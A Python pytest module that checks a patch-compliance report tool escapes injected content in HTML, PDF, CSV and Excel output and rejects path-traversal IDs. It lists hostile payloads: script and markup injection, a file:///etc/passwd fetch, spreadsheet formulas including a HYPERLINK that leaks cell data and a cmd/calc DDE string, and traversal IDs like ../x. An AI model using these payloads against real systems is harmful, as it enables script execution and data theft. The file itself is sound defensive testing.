"""Injection (SPEC 7): hostile text in every field a report shows, through `reporter run`.

Script, markup and formula payloads arrive in patch titles, statuses and API error messages
(served by the simulator), in inventory attributes and in ``--title``. Afterwards:

- the HTML, parsed, holds only the report's own script, no event handler, no element that
  loads anything, and no link leaving the page;
- the PDF renderer's URL fetcher refused nothing (there was nothing to fetch) and a loopback
  HTTP server named in the payloads received no request;
- CSV and Excel cells that a spreadsheet would run start with ``'``; Excel has no formula
  and no hyperlink cell;
- inventory IDs built to change the request path (``../x``, ``a/b``, ``%2e%2e``, ``?``,
  ``#``) never reach the API: every path the simulator saw is a well-formed one.
"""

import contextlib
import csv
import io
import json
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import openpyxl
import pypdf
import pytest

from reporter.cli import main
from reporter.render import pdf_engine
from reporter.render.cells import FORMULA_TRIGGERS
from reporter.simulator import Fleet, SimulatorServer

SERVER = "VA1OSDWEB01"
NUMERIC_CSV_COLUMNS = {"patch_seq", "result_code", "duration_s"}
SAFE_PATH = re.compile(
    r"/v2/authentication/login|/rest/servers/[A-Za-z0-9]+/server/[A-Za-z0-9-]+/patch(/[A-Za-z0-9-]+)?"
    r"|/v2/datacenters/[A-Za-z0-9]+(/[A-Za-z0-9]+\?groupLinks=true)?"
    r"|/v2/(groups|servers)/[A-Za-z0-9]+/[A-Za-z0-9-]+"
)
HOSTILE_IDS = [
    ("../x", ""),
    ("a/b", ""),
    ("%2e%2e", ""),
    ("x?y=1", ""),
    ("x#top", ""),
    ("..", ""),
    ("%2F", ""),
    (SERVER, "VA1-1/../VA1-2"),
    (SERVER, "VA1-1?x=1"),
    (SERVER, "VA1-1#frag"),
    (SERVER, "%2e%2e"),
]


class Canary(ThreadingHTTPServer):
    """A loopback HTTP server that counts every request it gets (there must be none)."""

    def __init__(self) -> None:
        self.hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler) -> None:  # the canary's own self is the server
                self.hits.append(handler.path)
                handler.send_response(200)
                handler.send_header("Content-Type", "image/png")
                handler.send_header("Content-Length", "0")
                handler.end_headers()

            def log_message(handler, *args) -> None:
                """Quiet."""

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = Canary()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def markup_payloads(url: str) -> list[str]:
    """Markup that would run script or load a URL if a report let it through."""
    return [
        "<script>alert(document.cookie)</script>",
        f'<script src="{url}/script.js"></script>',
        f'<img src="{url}/img.png" onerror="alert(1)">',
        '<img src="file:///etc/passwd">',
        f'<link rel="stylesheet" href="{url}/style.css">',
        f"<style>@import url({url}/import.css);</style>",
        f'<div style="background:url({url}/bg.png)">x</div>',
        f'<iframe src="{url}/frame"></iframe>',
        f'<object data="{url}/object"></object>',
        f'<svg><image href="{url}/svg.png"/></svg>',
        f'"><a href="javascript:alert(1)">click</a><base href="{url}/">',
        f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
    ]


def formula_payloads(url: str) -> list[str]:
    """Cells a spreadsheet would evaluate or link if written as they are."""
    return [
        f'=HYPERLINK("{url}/leak?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        f"{url}/plain-link",
    ]


def hostile_execution(execution_id: str, texts: list[str]) -> bytes:
    patches = [
        {
            "patch_begin_message": f"Installing {text}",
            "patch_end_message": "Result Code: 4" if number % 2 else "Result Code: 2",
            "status": text,
            "start_time": "2026-10-14T03:00:00Z",
            "end_time": "2026-10-14T03:05:00Z",
        }
        for number, text in enumerate(texts)
    ]
    body = {
        "execution_id": execution_id,
        "status": texts[0],
        "start_time": "2026-10-14T03:00:00Z",
        "end_time": "2026-10-14T03:10:00Z",
        "duration": texts[-1],
        "patches": patches,
    }
    return json.dumps(body).encode()


def write_hostile_run(sim: SimulatorServer, texts: list[str], path: Path) -> None:
    """An inventory whose attributes carry ``texts``, its executions' answers too."""
    rows = [["server_id", "execution_id", "account_alias", "owner", "notes"]]
    for number, text in enumerate(texts):
        # A server each: attributes are per server, and each carries another payload.
        server, execution_id = f"VA1OSDWEB{number:02d}", f"VA1-{300000 + number}"
        body = hostile_execution(execution_id, [text, texts[-1 - number]])
        sim.fleet.override("OSD", server, execution_id, body)
        rows.append([server, execution_id, "OSD", text, texts[-1 - number]])
    # An API error message is shown under Problems: it carries payloads too.
    message = json.dumps({"message": " ".join(texts)}).encode()
    sim.fleet.override("OSD", SERVER, "VA1-399999", message, status=404)
    rows.append([SERVER, "VA1-399999", "OSD", "x", "y"])
    rows += [[server, execution, "OSD", "ids", "ids"] for server, execution in HOSTILE_IDS]
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text of script and style elements."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self._inside: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._inside = tag if tag in ("script", "style") else None

    def handle_data(self, data: str) -> None:
        if self._inside == "script":
            self.scripts.append(data)
        elif self._inside == "style":
            self.styles.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._inside = None


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, canary) -> tuple[Path, dict[str, int], list[str], list[str]]:
    """One run over every payload: (out folder, request paths seen, payloads, URLs refused)."""
    folder = tmp_path_factory.mktemp("injection")
    texts = markup_payloads(canary.url) + formula_payloads(canary.url)
    fleet = Fleet.generate(servers=1, executions_per_server=1, seed=1)
    err = io.StringIO()
    with (
        pytest.MonkeyPatch.context() as env,
        SimulatorServer(fleet) as sim,
        contextlib.redirect_stderr(err),
    ):
        for name in ("CLC_V2_API_USERNAME", "CLC_V2_API_PASSWD", "CLC_BEARER_TOKEN"):
            env.delenv(name, raising=False)
        env.setenv("CLC_USER", "demo")
        env.setenv("CLC_PASSWORD", "demo")
        write_hostile_run(sim, texts, folder / "inventory.csv")
        refused_before = len(pdf_engine.REFUSED_URLS)
        argv = ["run", str(folder / "inventory.csv"), "--out", str(folder / "out")]
        argv += ["--title", texts[0] + " " + texts[2], "--pdf-detail", "all"]
        argv += ["--api-url", sim.api_url, "--login-url", sim.login_url]
        code = main(argv, stdout=io.StringIO())
        paths = sim.stats.snapshot()["paths"]
    assert code == 3, err.getvalue()
    assert "Traceback" not in err.getvalue()
    return folder / "out", paths, texts, pdf_engine.REFUSED_URLS[refused_before:]


def test_html_runs_and_loads_nothing_from_the_payloads(hostile_run, canary):
    out, _, texts, _ = hostile_run
    [html] = out.glob("patch-compliance-*.html")
    page = html.read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in page  # shown, as text
    parsed = Elements()
    parsed.feed(page)
    assert [tag for tag, _ in parsed.tags].count("script") == 1  # the report's own
    assert all("src" not in attrs for tag, attrs in parsed.tags if tag == "script")
    assert not any("alert" in script or "cookie" in script for script in parsed.scripts)
    loaders = {"img", "iframe", "object", "embed", "link", "base", "image", "frame", "video"}
    assert not [tag for tag, _ in parsed.tags if tag in loaders]
    for tag, attrs in parsed.tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert (attrs.get("href") or "#").startswith("#"), (tag, attrs)
        assert "src" not in attrs and "data" not in attrs, (tag, attrs)
        assert attrs.get("http-equiv", "").lower() != "refresh"
    assert not any(canary.url in style or "@import" in style for style in parsed.styles)
    print(f"\nHTML: {len(texts)} payloads escaped; 1 script (the report's), 0 loaders, 0 handlers")


def test_pdf_fetches_nothing(hostile_run, canary):
    out, _, texts, refused = hostile_run
    [pdf] = out.glob("patch-compliance-*.pdf")
    text = "".join(page.extract_text() for page in pypdf.PdfReader(pdf).pages)
    assert "<script>alert(document.cookie)</script>" in text.replace("\n", "")  # as text
    assert refused == []  # the markup stayed text: nothing even asked to be fetched
    assert canary.hits == []
    # The guard itself: markup that does reach WeasyPrint is refused, not fetched.
    fetcher = pdf_engine.AssetFetcher()
    page = f'<img src="{canary.url}/control.png"><img src="file:///etc/passwd">'
    pdf_engine.html_to_pdf(page, fetcher, None)
    assert f"{canary.url}/control.png" in fetcher.refused
    assert "file:///etc/passwd" in fetcher.refused
    assert canary.hits == []
    print(f"\nPDF: {len(texts)} payloads rendered as text; 0 URLs refused, 0 fetched")


def test_csv_cells_are_neutralised(hostile_run):
    out, _, _, _ = hostile_run
    [path] = out.glob("patch-compliance-*.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows
    cells = [
        (column, value)
        for row in rows
        for column, value in row.items()
        if column not in NUMERIC_CSV_COLUMNS
    ]
    assert not [cell for cell in cells if cell[1].startswith(FORMULA_TRIGGERS)]
    titles = {row["title"] for row in rows}
    assert "'" + formula_payloads("x")[1] in titles
    assert any(value.startswith("'=HYPERLINK(") for _, value in cells)
    owners = {row["owner"] for row in rows}
    assert "'@SUM(1,2)" in owners
    print(f"\nCSV: {len(cells)} text cells, none starts with = + - @ tab CR LF")


def test_excel_has_no_formula_and_no_link(hostile_run):
    out, _, _, _ = hostile_run
    [path] = out.glob("patch-compliance-*.xlsx")
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.coordinate for cell in cells if cell.hyperlink is not None]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]
    assert any(text.startswith("'=HYPERLINK(") for text in texts)
    assert any(text.startswith("'+cmd") for text in texts)
    assert any(text.endswith("/plain-link") for text in texts)  # a string, not a link
    print(f"\nExcel: {len(cells)} cells, 0 formulas, 0 hyperlinks")


def test_hostile_ids_never_reach_the_request_path(hostile_run):
    _, paths, _, _ = hostile_run
    assert paths
    assert all(SAFE_PATH.fullmatch(path) for path in paths), sorted(paths)
    for server, execution in HOSTILE_IDS:
        assert not any(server != SERVER and server in path for path in paths)
        assert not any(execution and execution in path for path in paths)
    print(f"\nIDs: {len(HOSTILE_IDS)} hostile IDs, {len(paths)} distinct request paths, all safe")
